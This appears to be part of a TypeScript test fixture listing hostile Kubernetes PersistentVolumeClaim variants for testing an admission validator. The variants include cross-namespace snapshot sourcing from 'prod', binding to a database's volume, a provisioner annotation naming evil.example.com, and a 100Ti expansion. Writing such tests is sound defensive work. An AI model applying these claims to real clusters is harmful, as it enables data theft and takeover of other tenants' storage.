    pvc('spec.dataSourceRef', 'populated from another namespace', 'high', (c) => { c.spec.dataSourceRef = { apiGroup: 'snapshot.storage.k8s.io', kind: 'VolumeSnapshot', name: 'x', namespace: 'prod' }; }),
    pvc('spec.selector', 'selecting a pre-existing volume', 'high', (c) => { c.spec.selector = { matchLabels: { app: 'database' } }; }),
    pvc('spec.volumeAttributesClassName', 'a volume attributes class', 'low', (c) => { c.spec.volumeAttributesClassName = 'gold'; }),
    pvc('metadata.name', 'not a workspace', 'medium', (c) => { c.metadata.name = 'data'; }),
    pvc('metadata.annotations', 'a provisioner annotation at create', 'medium', (c) => { annotate(c, 'volume.beta.kubernetes.io/storage-provisioner', 'evil.example.com'); }),
    pvc('spec.volumeName (UPDATE)', 'a pending claim bound to a chosen volume by the app server', 'high', (c) => { c.spec.volumeName = 'pv-of-the-database'; }, { update: {} }),
    pvc('spec.resources.requests.storage (UPDATE)', 'expanded to 100Ti', 'medium', (c) => { c.spec.resources.requests.storage = '100Ti'; }, { update: {} }),
  ];
}

/** Every variant. */
export const allVariants = (): Variant[] => [...podVariants(), ...serviceVariants(), ...ingressVariants(), ...claimVariants()];
